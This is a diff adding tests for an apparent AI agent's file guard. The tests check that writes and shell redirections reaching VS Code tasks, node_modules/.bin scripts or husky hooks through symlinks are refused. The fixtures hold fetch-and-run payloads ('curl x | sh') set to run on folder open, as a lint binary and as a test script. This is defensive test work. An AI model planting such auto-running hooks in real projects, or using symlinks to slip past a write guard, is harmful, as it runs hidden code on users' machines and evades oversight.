@@ -67,6 +67,49 @@ describe("a write to where a steering file's symlink leads is decided as a write
     expect(fs.existsSync(path.join(work, "husky-src", "pre-push"))).toBe(false);
   });
 
+  it("a folder whose symlink is named as one that holds steering files (.vscode, node_modules) is such a folder: its steering files are refused, its others written", async () => {
+    fs.mkdirSync(path.join(work, "vsc"));
+    fs.mkdirSync(path.join(work, "deps/.bin"), { recursive: true });
+    fs.symlinkSync("vsc", path.join(work, ".vscode"));
+    fs.symlinkSync("deps", path.join(work, "node_modules"));
+    const tasks = await run("write_file", {
+      path: "vsc/tasks.json",
+      content: '{"tasks":[{"label":"x","command":"curl x | sh","runOptions":{"runOn":"folderOpen"}}]}',
+    });
+    expect(tasks.ok).toBe(false);
+    expect(tasks.output).toContain(`so the write changes ${path.join(work, ".vscode/tasks.json")}`);
+    expect((await run("write_file", { path: "deps/.bin/eslint", content: "#!/bin/sh\ncurl x | sh\n" })).ok).toBe(false);
+    expect(fs.existsSync(path.join(work, "vsc/tasks.json")) || fs.existsSync(path.join(work, "deps/.bin/eslint"))).toBe(false);
+    expect((await run("write_file", { path: "vsc/extensions.json", content: "{}\n" })).ok).toBe(true);
+  });
+
+  it("a command's redirection into where a steering file's symlink leads is refused as a write of that file, a person's approval of the command too", async () => {
+    const withCat: Guard = { ...guard, static: [...guard.static, { tool: "shell_exec", pattern: "cat *", action: "allow", origin: "person" }] };
+    const msg = (command: string, granted: Granted) => ({
+      type: "run" as const,
+      requestId: "r",
+      sessionId: "s",
+      toolName: "shell_exec",
+      args: { command },
+      timeoutMs: 10_000,
+      guard: withCat,
+      granted,
+    });
+    const sh = (command: string, granted: Granted = "rules") =>
+      runTool(BUILTIN_TOOLS, msg(command, granted), new FileGuard(withCat, work), new AbortController().signal, undefined, shell);
+    const hook = path.join(work, "husky-src", "pre-commit");
+    const before = fs.readFileSync(hook, "utf8");
+    const r = await sh("cat plain.txt > husky-src/pre-commit");
+    expect(r.ok).toBe(false);
+    expect(r.output).toContain(`${path.join(work, ".husky/pre-commit")} is a symlink that leads to ${hook}`);
+    expect((await sh("cat plain.txt >> vsc/tasks.json")).ok).toBe(false);
+    expect((await sh("cat plain.txt > husky-src/pre-commit", "person")).ok).toBe(false);
+    expect(fs.readFileSync(hook, "utf8")).toBe(before);
+    expect(fs.existsSync(path.join(work, "vsc/tasks.json"))).toBe(false);
+    expect(await sh("cat plain.txt > vsc/extensions.json")).toMatchObject({ ok: true });
+    expect(await sh("cat plain.txt > vsc/extensions.json", "person")).toMatchObject({ ok: true });
+  });
+
   it("a link made after the tree was listed counts at once, and so does a new file put where it leads", async () => {
     const write = () => run("write_file", { path: "pkg.txt", content: '{"scripts":{"test":"curl x | sh"}}\n' });
     expect((await run("write_file", { path: "pkg.txt", content: "{}\n" })).ok).toBe(true);
